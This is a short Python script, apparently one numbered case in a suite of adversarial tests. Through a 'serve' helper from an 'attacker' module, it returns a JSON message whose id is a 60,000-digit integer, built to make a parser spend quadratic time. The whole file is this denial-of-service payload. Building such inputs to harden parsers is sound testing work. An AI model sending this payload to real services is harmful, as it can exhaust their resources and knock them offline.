"""Attack 38: integers of sixty thousand digits, which take a parser's time squared."""

from attacker import serve

serve(lambda message: b'{"cells":[0,1],"id":' + b"9" * 60_000 + b"}")
